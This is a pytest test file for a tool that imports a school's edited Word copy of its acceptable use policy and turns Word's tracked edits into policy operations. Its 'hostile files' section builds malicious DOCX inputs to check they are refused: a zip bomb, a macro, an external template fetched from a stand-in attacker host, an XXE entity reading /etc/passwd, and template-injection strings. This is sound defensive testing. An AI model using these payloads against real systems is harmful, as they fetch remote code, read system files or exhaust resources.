"""import-docx: a school's edited DOCX back as operations on its layer (issue 13).

Each test builds the shipped Brookfield acceptable use policy as DOCX, edits it the way Word
writes edits (split runs, tracked insertions and deletions, a tracked move, a comment, its own
numbering changed), imports it, and for the edits that can be applied, applies them to a copy of
the project, builds again and checks that the new DOCX reads as the edited one.
"""
import copy
import functools
import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from policypack import docxread, importdocx
from policypack.cli import main
from policypack.errors import Report
from policypack.load import load_project
from policypack.render import RenderContext
from policypack.render.docx import render_docx
from policypack.resolve import resolve

ROOT = Path(__file__).resolve().parent.parent
SCHOOL, POLICY = "brookfield-primary-school", "acceptable-use"
W = docxread.W
NS = {"w": W}


def q(tag):
    return f"{{{W}}}{tag}"


@pytest.fixture
def project(tmp_path):
    """A copy of the shipped project that --apply may write into."""
    root = tmp_path / "project"
    for d in ("policy_src", "schools", "templates"):
        shutil.copytree(ROOT / d, root / d)
    return root


def build(root, school=SCHOOL, policy=POLICY) -> bytes:
    if Path(root) == ROOT:
        return _shipped(school, policy)
    return _build(root, school, policy)


@functools.lru_cache(maxsize=None)
def _shipped(school, policy) -> bytes:
    return _build(ROOT, school, policy)


def _build(root, school, policy) -> bytes:
    report = Report()
    doc = resolve(load_project(root, report), school, policy, report)
    assert not report.errors, [p.format() for p in report.errors]
    ctx = RenderContext(as_of=dt.date(2026, 1, 1), project_root=Path(root).resolve(), template_dir=Path(root) / "templates")
    return render_docx(doc, ctx, page_numbers=False)


class Docx:
    """A DOCX opened for editing as Word would edit it."""

    def __init__(self, data: bytes):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            self.parts = {n: z.read(n) for n in z.namelist()}
        self.doc = etree.fromstring(self.parts["word/document.xml"])
        self.body = self.doc.find(q("body"))
        self.next_id = 900

    def paras(self, cid):
        """The paragraphs of clause `cid`: its bookmarked paragraph, then those up to the next bookmark."""
        name = "c_" + cid.replace("-", "_")
        ps = list(self.body.iter(q("p")))
        start = next(i for i, p in enumerate(ps) if p.find(q("bookmarkStart")) is not None
                     and p.find(q("bookmarkStart")).get(q("name")) == name)
        out = [ps[start]]
        for p in ps[start + 1:]:
            if p.find(q("bookmarkStart")) is not None:
                break
            out.append(p)
        return out

    def text_para(self, cid):
        """The first paragraph of the clause's text (after its title paragraph)."""
        return self.paras(cid)[1]

    @staticmethod
    def text(p):
        return "".join(t.text or "" for t in p.iter(q("t")))

    def _id(self):
        self.next_id += 1
        return str(self.next_id)

    @staticmethod
    def run(text, tag="t"):
        r = etree.Element(q("r"))
        t = etree.SubElement(r, q(tag))
        t.text = text
        t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
        return r

    def split_runs(self, p, text=None):
        """The paragraph's text (or `text`) in runs of a few characters, as Word leaves it after edits."""
        text = self.text(p) if text is None else text
        for child in list(p):
            if child.tag not in (q("pPr"), q("bookmarkStart"), q("bookmarkEnd")):
                p.remove(child)
        for k in range(0, len(text), 7):
            p.append(self.run(text[k:k + 7]))

    def track(self, p, old, new):
        """A tracked replacement of `old` by `new` inside paragraph `p`: the run holding it is split
        around a w:del and a w:ins, as Word does (links and other runs stay as they are)."""
        t = next((t for t in p.iter(q("t")) if old in (t.text or "")), None)
        assert t is not None, (old, self.text(p))
        r = t.getparent()
        before, after = t.text.split(old, 1) if old else ("", t.text)
        t.text = before
        tail = copy.deepcopy(r)
        tail.find(q("t")).text = after
        r.addnext(tail)
        if new:
            i = etree.Element(q("ins"), {q("id"): self._id(), q("author"): "School"})
            i.append(self.run(new))
            r.addnext(i)
        if old:
            d = etree.Element(q("del"), {q("id"): self._id(), q("author"): "School"})
            d.append(self.run(old, "delText"))
            r.addnext(d)

    def _wrap_runs(self, p, tag):
        """Put each run of `p` inside a `tag` change (w:del, w:moveFrom), its text as deleted text."""
        for r in p.findall(q("r")):
            wrapper = etree.Element(q(tag), {q("id"): self._id(), q("author"): "School"})
            r.addprevious(wrapper)
            wrapper.append(r)
            for t in r.findall(q("t")):
                t.tag = q("delText")

    def _mark(self, p, tag):
        """Track the paragraph mark as deleted (w:del) or moved away (w:moveFrom)."""
        ppr = p.find(q("pPr"))
        if ppr is None:
            ppr = etree.Element(q("pPr"))
            p.insert(0, ppr)
        etree.SubElement(etree.SubElement(ppr, q("rPr")), q(tag), {q("id"): self._id(), q("author"): "School"})

    def delete_tracked(self, p):
        """A whole paragraph deleted with tracked changes: its runs and its mark."""
        self._wrap_runs(p, "del")
        self._mark(p, "del")

    def insert_after(self, p, text, like=None, tracked=True):
        """A new paragraph after `p`, formatted like paragraph `like` (its style and numbering)."""
        new = etree.Element(q("p"))
        if like is not None and like.find(q("pPr")) is not None:
            new.append(copy.deepcopy(like.find(q("pPr"))))
        if tracked:
            i = etree.SubElement(new, q("ins"), {q("id"): self._id(), q("author"): "School"})
            i.append(self.run(text))
        else:
            new.append(self.run(text))
        p.addnext(new)
        return new

    def move_tracked(self, paras, after):
        """Move paragraphs (a clause's) after paragraph `after` as Word tracks a move: the old ones
        kept inside w:moveFrom, copies inside w:moveTo, the bookmark going with the text."""
        anchor = after
        for p in paras:
            moved = copy.deepcopy(p)
            self._wrap_runs(p, "moveFrom")
            for b in p.findall(q("bookmarkStart")) + p.findall(q("bookmarkEnd")):
                p.remove(b)
            self._mark(p, "moveFrom")
            for r in moved.findall(q("r")):
                m = etree.Element(q("moveTo"), {q("id"): self._id(), q("author"): "School"})
                r.addprevious(m)
                m.append(r)
            anchor.addnext(moved)
            anchor = moved

    def comment(self, p, text):
        cid = "0"
        p.insert(1, etree.Element(q("commentRangeStart"), {q("id"): cid}))
        p.append(etree.Element(q("commentRangeEnd"), {q("id"): cid}))
        r = etree.SubElement(p, q("r"))
        etree.SubElement(r, q("commentReference"), {q("id"): cid})
        self.parts["word/comments.xml"] = (
            f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="Head"><w:p><w:r><w:t>{text}</w:t>'
            "</w:r></w:p></w:comment></w:comments>").encode()
        self.parts["[Content_Types].xml"] = self.parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-'
                         b'officedocument.wordprocessingml.comments+xml"/></Types>')
        self.parts["word/_rels/document.xml.rels"] = self.parts["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
                                 b'2006/relationships/comments" Target="comments.xml"/></Relationships>')

    def bytes(self) -> bytes:
        self.parts["word/document.xml"] = etree.tostring(self.doc, xml_declaration=True, encoding="UTF-8",
                                                         standalone=True)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.parts.items():
                z.writestr(name, data)
        return out.getvalue()


class _AnyBookmark(dict):
    """Every clause bookmark, as the name of what a REF field points at."""

    def __contains__(self, name):
        return name.startswith("c_")

    def __getitem__(self, name):
        return name


def body_text(data: bytes, plain: bool = False) -> list:
    """What a reader sees of the policy's body, tracked changes accepted: canonical paragraphs from
    the first bookmark on, with their emphasis and links (numbers Word draws are not text, and a
    cross-reference is compared by its target, not by the number Word last stored in the field);
    `plain`: the text only, as a reader sees it."""
    pkg = docxread.Package(data)
    paras, _ = docxread.read(pkg, _AnyBookmark(), {})
    start = next(i for i, p in enumerate(paras) if any(b.startswith("c_") for b in p.bookmarks))
    return [c for c in (importdocx.canon(p.text if plain else p.md) for p in paras[start:]) if c]


def run_import(root, data: bytes, tmp_path, *args, school=SCHOOL, policy=POLICY):
    f = tmp_path / "returned.docx"
    f.write_bytes(data)
    res = CliRunner().invoke(main, ["import-docx", "--root", str(root), str(f), "--school", school,
                                    "--policy", policy, "--json", *args])
    return res


def ops(res) -> list:
    data = json.loads(res.stdout)
    return [(o["op"], o["id"]) for o in data["operations"]]


def round_trip(project, tmp_path, edit, expected):
    """Edit the built DOCX, import: the operations are `expected`; apply, rebuild: same text."""
    d = Docx(build(project))
    edit(d)
    edited = d.bytes()
    res = run_import(project, edited, tmp_path)
    assert res.exit_code == 0, res.output
    assert ops(res) == expected
    res = run_import(project, edited, tmp_path, "--apply")
    assert res.exit_code == 0, res.output
    rebuilt = build(project)
    assert body_text(rebuilt) == body_text(edited)
    assert body_text(rebuilt) != body_text(build(ROOT))  # the edit is really in the rebuilt file
    return json.loads(res.stdout)


def test_unedited_file_gives_no_operations(project, tmp_path):
    res = run_import(project, build(project), tmp_path)
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["operations"] == []


def test_file_from_the_build_command_gives_no_operations(tmp_path):
    """The DOCX as `build` writes it (with its contents' page numbers, where LibreOffice is here)."""
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["build", "--root", str(ROOT), "--out", str(out), "--school", SCHOOL,
                                    "--policy", POLICY, "--format", "docx"])
    assert res.exit_code == 0, res.output
    res = run_import(ROOT, (out / SCHOOL / f"{POLICY}.docx").read_bytes(), tmp_path)
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout) == {"file": str(tmp_path / "returned.docx"), "organisation": SCHOOL,
                                      "policy": POLICY, "operations": [], "comments": [], "warnings": []}


def test_slot_edit_in_split_runs_becomes_fill(project, tmp_path):
    def edit(d):
        p = d.text_para("local-it-contacts")
        d.split_runs(p, "For IT help, ring the office on 01632 960999 and ask for \u201cthe helpdesk\u201d.")
    out = round_trip(project, tmp_path, edit, [("fill", "local-it-contacts")])
    assert out["operations"][0]["consultation"] is False
    assert "local-it-contacts: |" in (project / "schools" / f"{SCHOOL}.yaml").read_text()


def test_slot_with_a_list_keeps_its_list(project, tmp_path):
    def edit(d):
        item = next(p for p in d.paras("northshire-support-contacts") if "occupational health" in d.text(p))
        d.track(item, "through a referral from", "by asking")
        d.insert_after(item, "the staff wellbeing champion, Mr Okafor;", like=item)  # a new bullet
    out = round_trip(project, tmp_path, edit, [("fill", "northshire-support-contacts")])
    text = out["operations"][0]["value"]
    assert "\n- the council’s occupational health service, by asking the {{ head }};\n" \
           "- the staff wellbeing champion, Mr Okafor;\n- [Education Support]" in text
    assert "northshire-support-contacts: |" in (project / "schools" / f"{SCHOOL}.yaml").read_text()


def test_lettered_list_stays_a_lettered_list(project, tmp_path):
    def edit(d):
        items = [p for p in d.paras("internet-use-unacceptable-content") if d.text(p)]
        d.track(items[-1], "", "any ")
    out = round_trip(project, tmp_path, edit, [("replace", "internet-use-unacceptable-content")])
    lines = out["operations"][0]["value"].splitlines()
    first = next(k for k, line in enumerate(lines) if line.startswith("1. "))
    assert lines[first - 1] == "" and all(line.startswith("1. ") for line in lines[first:])
    assert lines[-1].startswith("1. any ") and len(lines) - first > 3


def test_tracked_edit_outside_slots_is_replace_needing_consultation(project, tmp_path):
    def edit(d):
        d.track(d.text_para("personal-devices-smart-watches"), "count as phones", "count as phones and laptops")
    out = round_trip(project, tmp_path, edit, [("replace", "personal-devices-smart-watches")])
    assert out["operations"][0]["consultation"] is True
    text = (project / "schools" / f"{SCHOOL}.yaml").read_text()
    assert "# Brookfield Primary School (fictional)" in text  # the school's comments are kept


def test_variable_changed_everywhere_becomes_variables(project, tmp_path):
    def edit(d):
        for p in list(d.body.iter(q("p"))):
            if "computing subject leader" in d.text(p):
                d.track(p, "computing subject leader", "digital lead")
    out = round_trip(project, tmp_path, edit, [("variables", "online_safety_lead")])
    assert out["operations"][0]["value"] == "the digital lead"
    assert len(out["operations"][0]["note"].split(",")) == 5  # the five clauses that print it


def test_variable_in_headings_and_text_becomes_variables_only(project, tmp_path):
    """`dsl` is printed in a heading too: changed everywhere, it is one `variables` entry, no retitle."""
    def edit(d):
        for p in list(d.body.iter(q("p"))):
            for old, new in (("designated safeguarding lead", "safeguarding lead"),
                             ("Designated safeguarding lead", "Safeguarding lead")):
                while any(old in (t.text or "") for t in p.iter(q("t"))):
                    d.track(p, old, new)
    out = round_trip(project, tmp_path, edit, [("variables", "dsl")])
    assert out["operations"][0]["value"] == "safeguarding lead"


def test_variable_changed_in_one_place_only_is_a_replace(project, tmp_path):
    d = Docx(build(project))
    p = next(p for p in d.paras("practice-help")[1:] if "computing subject leader" in d.text(p))
    d.track(p, "computing subject leader", "digital lead")
    res = run_import(project, d.bytes(), tmp_path)
    assert ops(res) == [("replace", "practice-help")]
    assert "{{ online_safety_lead }}" not in json.loads(res.stdout)["operations"][0]["value"]


def test_wording_of_another_variant_becomes_variants(project, tmp_path):
    report = Report()
    proj = load_project(project, report)
    proj.organisations[SCHOOL].policies[POLICY].variants["personal-phones"] = ("not-on-site", None)
    wanted = resolve(proj, SCHOOL, POLICY, report).by_id()["personal-phones"].text

    def edit(d):
        d.split_runs(d.text_para("personal-phones"), wanted)
    out = round_trip(project, tmp_path, edit, [("variants", "personal-phones")])
    assert out["operations"][0]["value"] == "not-on-site"


def test_switched_off_clause_typed_back_becomes_enable(project, tmp_path):
    school, cid = "saltmarsh-infant-school", "monitoring-la-broadband"
    report = Report()
    proj = load_project(project, report)
    proj.organisations[school].enable.append((cid, None))
    node = resolve(proj, school, POLICY, report).by_id()[cid]
    d = Docx(build(project, school, POLICY))
    before = d.paras("monitoring-informing-staff")
    heading = d.insert_after(before[-1], node.title, like=before[0])
    d.insert_after(heading, node.text, like=before[1])
    res = run_import(project, d.bytes(), tmp_path, "--apply", school=school)
    assert res.exit_code == 0, res.output
    assert ops(res) == [("enable", cid)]
    # (typed back, the cross-reference in it is a number, not a field: compared as text)
    assert body_text(build(project, school, POLICY), plain=True) == body_text(d.bytes(), plain=True)


def test_optional_clause_deleted_becomes_disable(project, tmp_path):
    def edit(d):
        for p in d.paras("messaging-video-calls"):
            d.delete_tracked(p)
    round_trip(project, tmp_path, edit, [("disable", "messaging-video-calls")])


def test_new_numbered_paragraph_becomes_insert(project, tmp_path):
    def edit(d):
        heading = d.paras("personal-devices-smart-watches")[0]
        last = d.paras("personal-devices-smart-watches")[-1]
        new = d.insert_after(last, "Fitness trackers", like=heading)
        d.insert_after(new, "Fitness trackers without a camera may be worn at any time.", like=d.paras(
            "personal-devices-smart-watches")[1])
    out = round_trip(project, tmp_path, edit, [("insert", "fitness-trackers")])
    op = out["operations"][0]
    assert (op["where"], op["anchor"], op["consultation"]) == ("after", "personal-devices-smart-watches", True)


def test_moved_paragraph_becomes_move(project, tmp_path):
    def edit(d):
        d.move_tracked(d.paras("email-response-times"), d.paras("email-approved-accounts")[-1])
    out = round_trip(project, tmp_path, edit, [("move", "email-response-times")])
    assert out["operations"][0]["value"] == "email-approved-accounts"


def test_edit_to_an_untitled_clause_and_a_new_numbered_paragraph(project, tmp_path):
    """Clauses without a title: the bookmarked paragraph is the text; a paragraph Word numbers like
    it, typed after it, is a new clause of the same level."""
    def edit(d):
        head = d.paras("aup-definition-personal-data")[0]
        d.track(d.paras("aup-definition-ict-systems")[0], "", "In this policy, ")
        d.insert_after(d.paras("aup-definition-personal-data")[-1],
                       "“Cloud storage” means any online service that keeps files away from the school.",
                       like=head)
    out = round_trip(project, tmp_path, edit, [("replace", "aup-definition-ict-systems"),
                                                ("insert", "cloud-storage-means-any-online-service")])
    assert out["operations"][1]["anchor"] == "aup-definition-personal-data"
    assert "title" not in out["operations"][1]["value"]


def test_new_numbered_heading_becomes_a_section(project, tmp_path):
    def edit(d):
        last = d.paras("personal-devices-school-systems")[-1]
        heading = d.insert_after(last, "Printing", like=d.paras("personal-devices")[0])
        d.insert_after(heading, "Print only what you need, and collect it at once.", like=d.text_para("aup-purpose"))
    out = round_trip(project, tmp_path, edit, [("insert", "printing")])
    op = out["operations"][0]
    assert (op["kind"], op["where"], op["anchor"]) == ("section", "after", "personal-devices")
    assert op["value"] == {"id": "printing", "title": "Printing",
                           "text": "Print only what you need, and collect it at once.\n"}


def test_clause_deleted_outright_is_remove_needing_consultation(project, tmp_path):
    def edit(d):
        for p in d.paras("email-integrity"):
            p.getparent().remove(p)  # deleted without tracking
    out = round_trip(project, tmp_path, edit, [("remove", "email-integrity")])
    assert out["operations"][0]["consultation"] is True


def test_clause_left_with_only_its_heading_is_removed(project, tmp_path):
    d = Docx(build(project))
    for p in d.paras("messaging-work-platforms")[1:]:
        p.getparent().remove(p)
    assert ops(run_import(project, d.bytes(), tmp_path)) == [("remove", "messaging-work-platforms")]


def test_locked_clause_deleted_is_refused(project, tmp_path):
    d = Docx(build(project))
    for p in d.paras("personal-devices-no-photos"):
        d.delete_tracked(p)
    res = run_import(project, d.bytes(), tmp_path)
    assert res.exit_code == 1
    op = json.loads(res.stdout)["operations"][0]
    assert (op["op"], op["id"]) == ("remove", "personal-devices-no-photos")
    assert op["refused"].startswith("'personal-devices-no-photos' is locked")


def test_retitle_and_emphasis_and_links_survive(project, tmp_path):
    """A changed heading is a retitle; a replacement keeps the clause's links as Markdown links."""
    def edit(d):
        d.track(d.paras("email-disclosure")[0], "Messages are records", "Every message is a record")
        p = d.text_para("local-it-contacts")
        d.track(p, "log a request with", "raise a ticket with")
    out = round_trip(project, tmp_path, edit, [("retitle", "email-disclosure"), ("fill", "local-it-contacts")])
    fill = out["operations"][1]["value"]
    assert "[help@northshire-broadband.example](mailto:help@northshire-broadband.example)" in fill
    assert "{{ it_provider }}" in fill and "{{ head }}" in fill  # the variables are kept


def test_inserted_clause_is_copied_per_organisation():
    """Resolving a school that fills its council's inserted slot leaves the council's copy alone
    (the import resolves one loaded project many times)."""
    report = Report()
    proj = load_project(ROOT, report)
    council = "northshire-county-council"
    before = resolve(proj, council, POLICY, report).by_id()["northshire-support-contacts"].text
    resolve(proj, SCHOOL, POLICY, report)
    assert resolve(proj, council, POLICY, report).by_id()["northshire-support-contacts"].text == before


def test_clause_moved_to_another_section_becomes_move(project, tmp_path):
    def edit(d):
        paras = d.paras("software-licences")
        last = d.paras("misuse-mfa")[-1]
        for p in paras:
            p.getparent().remove(p)  # cut ...
        for p in reversed(paras):
            last.addnext(p)  # ... and pasted, bookmark and all, under another section
    out = round_trip(project, tmp_path, edit, [("move", "software-licences")])
    assert (out["operations"][0]["where"], out["operations"][0]["value"]) == ("after", "misuse-mfa")


def test_word_habits_are_not_edits(project, tmp_path):
    """Renamed styles, Word's numbering changed, straight quotes, empty paragraphs added and a
    comment: no operation, and the comment is listed with its clause."""
    d = Docx(build(project))
    for st in d.body.iter(q("pStyle")):
        if st.get(q("val")) == "ClauseText2":
            st.set(q("val"), "BodyTextSchool")
    num = etree.fromstring(d.parts["word/numbering.xml"])
    for lvl in num.iter(q("lvlText")):
        lvl.set(q("val"), lvl.get(q("val")).replace(".", "-"))
    lists = [a for a in num.iter(q("abstractNum")) if int(a.get(q("abstractNumId"))) >= 10]
    assert lists  # the policy has in-text lists: renumber them from 3, in capital roman numerals
    for a in lists:
        for lvl in a.iter(q("lvl")):
            lvl.find(q("start")).set(q("val"), "3")
            lvl.find(q("numFmt")).set(q("val"), "upperRoman")
    d.parts["word/numbering.xml"] = etree.tostring(num)
    p = d.text_para("email-disclosure")
    d.split_runs(p, d.text(p).replace("\u2019", "'"))
    d.insert_after(p, "", tracked=False)
    d.comment(d.text_para("aup-purpose"), "Should we mention governors here?")
    res = run_import(project, d.bytes(), tmp_path)
    assert res.exit_code == 0, res.output
    out = json.loads(res.stdout)
    assert out["operations"] == []
    assert out["comments"] == [{"id": "0", "author": "Head", "clause": "aup-purpose",
                                "text": "Should we mention governors here?"}]


def test_locked_clause_edit_is_refused_with_its_reason(project, tmp_path):
    d = Docx(build(project))
    d.track(d.text_para("dp-breaches"), "", "Where possible, ")
    before = (project / "schools" / f"{SCHOOL}.yaml").read_bytes()
    res = run_import(project, d.bytes(), tmp_path, "--apply")
    assert res.exit_code == 1
    op = json.loads(res.stdout)["operations"][0]
    assert (op["op"], op["id"]) == ("replace", "dp-breaches")
    assert "locked" in op["refused"] and "required by law or by agreement" in op["refused"]
    assert "nothing was written" in res.stderr
    assert (project / "schools" / f"{SCHOOL}.yaml").read_bytes() == before


def test_nothing_is_written_unless_check_passes(project, tmp_path):
    """Deleting a clause another clause refers to proposes `remove`, but the layer would not pass
    check, so --apply puts the file back and says why."""
    d = Docx(build(project))
    for p in d.paras("misuse-reporting-compromise"):
        d.delete_tracked(p)
    before = (project / "schools" / f"{SCHOOL}.yaml").read_bytes()
    res = run_import(project, d.bytes(), tmp_path, "--apply")
    assert res.exit_code == 1
    assert ops(res) == [("remove", "misuse-reporting-compromise")]
    assert "did not pass check, so the file was left as it was" in res.stderr
    assert "misuse-reporting-compromise" in res.stderr.split("left as it was", 1)[1]
    assert (project / "schools" / f"{SCHOOL}.yaml").read_bytes() == before


def test_text_that_looks_like_markdown_prints_as_typed(project, tmp_path):
    def edit(d):
        p = d.text_para("personal-devices-smart-watches")
        d.insert_after(p, "- not a list, 2. not a number, # not a heading", tracked=False)
        d.insert_after(p, "1. Nor this * or _this_ or [this](https://example.org) or &amp; {{", tracked=False)
        d.insert_after(p, "---", tracked=False)
    d = Docx(build(project))
    edit(d)
    res = run_import(project, d.bytes(), tmp_path)
    op = json.loads(res.stdout)["operations"][0]
    assert op["refused"].startswith("the new text holds '{{'")
    d = Docx(build(project))
    edit(d)
    d.track(next(p for p in d.body.iter(q("p")) if d.text(p).startswith("1. Nor")), " {{", "")
    f = d.bytes()
    res = run_import(project, f, tmp_path, "--apply")
    assert res.exit_code == 0, res.output
    assert body_text(build(project)) == body_text(f)


def test_cross_references_stay_references(project, tmp_path):
    """A REF field to a clause, and a link to another policy of the pack, come back as ref()."""
    def edit(d):
        d.track(d.text_para("personal-devices-school-systems"), "No one has to", "Nobody has to")
    out = round_trip(project, tmp_path, edit, [("replace", "personal-devices-school-systems")])
    assert "{{ ref('misuse-reporting-compromise') }}" in out["operations"][0]["value"]

    school = "kestrel-park-academy"
    d = Docx(build(project, school, POLICY))
    p = next(p for p in d.paras("aup-related-documents") if "ocial media" in d.text(p))
    d.split_runs(p, d.text(p) + " Read it.")  # (the link to the other policy goes: typed over)
    res = run_import(project, d.bytes(), tmp_path, school=school)
    assert "{{ ref('social-media:') }}" not in res.stdout
    d = Docx(build(project, school, POLICY))
    p = next(p for p in d.paras("aup-related-documents") if "ocial media" in d.text(p))
    d.track(p, d.text(p)[-1], d.text(p)[-1] + " Read it.")
    res = run_import(project, d.bytes(), tmp_path, school=school)
    assert res.exit_code == 0, res.output
    assert "{{ ref('social-media:') }}" in json.loads(res.stdout)["operations"][0]["value"]


def test_template_syntax_anywhere_is_refused(project, tmp_path):
    """'{{' in a new clause or '{%' in a heading would be read as a template: refused, not written."""
    d = Docx(build(project))
    heading = d.paras("personal-devices-smart-watches")[0]
    d.track(heading, "Smart watches", "{% for x in y %}Smart watches")
    d.insert_after(d.paras("personal-devices-smart-watches")[-1], "Ask {{ self.__class__ }} first.",
                   like=d.paras("aup-definition-personal-data")[0])
    res = run_import(project, d.bytes(), tmp_path)
    assert res.exit_code == 1
    out = json.loads(res.stdout)["operations"]
    assert [(o["op"], o["refused"][:26]) for o in out] == [("retitle", "the new text holds '{{', '"),
                                                            ("insert", "the new text holds '{{', '")]


def test_readable_report(project, tmp_path):
    d = Docx(build(project))
    d.track(d.text_para("personal-devices-smart-watches"), "count as phones", "count as phones and laptops")
    f = tmp_path / "r.docx"
    f.write_bytes(d.bytes())
    res = CliRunner().invoke(main, ["import-docx", "--root", str(project), str(f), "--school", SCHOOL,
                                    "--policy", POLICY])
    assert res.exit_code == 0
    assert ("- replace: personal-devices-smart-watches [needs union consultation]  "
            "(8.3 Smart watches and other wearables)") in res.stdout
    assert "changed: ... message count as phones {+and laptops+} under this section. Their ..." in res.stdout


# ---- hostile files -------------------------------------------------------------------------------
def _zip(parts: dict, compress=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def _with(data: bytes, name: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts[name] = content
    return _zip(parts)


def _damaged(data: bytes, name: str) -> bytes:
    """The file with bytes in the middle of a part's compressed data changed (its CRC then fails)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo(name)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    return data[:middle] + bytes(b ^ 0x55 for b in data[middle:middle + 16]) + data[middle + 16:]


@functools.lru_cache(maxsize=None)
def _hostile_cases():
    good = build(ROOT)
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        types, rels = z.read("[Content_Types].xml"), z.read("word/_rels/document.xml.rels")
        document = z.read("word/document.xml")
    return {
        "huge file": (b"PK\x03\x04" + b"\0" * (26 * 1024 * 1024), "limit is 25 MB"),
        "not a zip": (b"PK\x03\x04 this is not a zip", "not a Word (.docx) file"),
        "damaged part": (_damaged(good, "word/document.xml"), "cannot be read"),
        "zip bomb": (_with(good, "word/media/bomb.bin", b"\0" * (40 * 1024 * 1024)), "MB"),
        "ratio bomb": (_with(good, "word/media/bomb.bin", b"\0" * (8 * 1024 * 1024)), "zip bomb"),
        "huge part": (_with(good, "word/document.xml", document + b" " * (33 * 1024 * 1024)), "limit"),
        "macro": (_with(good, "word/vbaProject.bin", b"macro"), "macro"),
        "docm type": (_with(good, "[Content_Types].xml", types.replace(
            b"document.main+xml", b"document.macroEnabled.main+xml")), "macro-enabled"),
        "external template": (_with(good, "word/_rels/document.xml.rels", rels.replace(
            b"</Relationships>", b'<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>")), "outside the file"),
        "xxe": (_with(good, "word/document.xml", b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                      b'"file:///etc/passwd">]>' + document.split(b"?>", 1)[1]), "DTD"),
    }


@pytest.mark.parametrize("case", list(_hostile_cases()))
def test_hostile_files_are_refused_clearly(case, tmp_path):
    data, message = _hostile_cases()[case]
    f = tmp_path / "hostile.docx"
    f.write_bytes(data)
    res = CliRunner().invoke(main, ["import-docx", "--root", str(ROOT), str(f), "--school", SCHOOL,
                                    "--policy", POLICY])
    assert res.exit_code == 1, res.output
    assert res.stderr.startswith(f"{f}: error: ") and message in res.stderr, res.stderr
    assert "Traceback" not in res.output


@pytest.mark.parametrize("path, message", [("/dev/zero", "not a regular file"), ("missing.docx", "cannot read it")])
def test_unreadable_paths_are_refused(path, message, tmp_path):
    res = CliRunner().invoke(main, ["import-docx", "--root", str(ROOT), path, "--school", SCHOOL, "--policy", POLICY])
    assert res.exit_code == 1 and f"{path}: error: " in res.stderr and message in res.stderr, res.output


def test_file_for_another_school_is_refused(tmp_path):
    f = tmp_path / "other.docx"
    f.write_bytes(build(ROOT, "marrowbeck-junior-school", POLICY))
    res = CliRunner().invoke(main, ["import-docx", "--root", str(ROOT), str(f), "--school", SCHOOL,
                                    "--policy", POLICY])
    assert res.exit_code == 1
    assert "built for marrowbeck-junior-school's 'acceptable-use', not for brookfield-primary-school's" in res.stderr


def test_writer_names_what_the_file_is_for():
    pkg = docxread.Package(build(ROOT))
    props = pkg.custom_properties()
    assert props["policypack-organisation"] == SCHOOL and props["policypack-policy"] == POLICY
    assert len(props["policypack-source"]) == 16
    assert build(ROOT) == build(ROOT)  # still the same bytes each time


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_edited_and_saved_by_libreoffice(project, tmp_path):
    """A real office suite: LibreOffice opens the DOCX, records a change to one clause, saves as
    DOCX; the import finds that one edit, and applying it reproduces the text LibreOffice saved."""
    from tests.helpers_docx import libreoffice_replace

    edited = libreoffice_replace(build(project), "count as phones under this section",
                                 "count as phones and tablets under this section", tmp_path)
    with zipfile.ZipFile(io.BytesIO(edited)) as z:
        saved = z.read("word/document.xml")
    assert b"<w:ins " in saved and b"<w:del " in saved  # LibreOffice recorded the change
    res = run_import(project, edited, tmp_path)
    assert res.exit_code == 0, res.output
    assert ops(res) == [("replace", "personal-devices-smart-watches")]
    res = run_import(project, edited, tmp_path, "--apply")
    assert res.exit_code == 0, res.output
    assert body_text(build(project)) == body_text(edited)
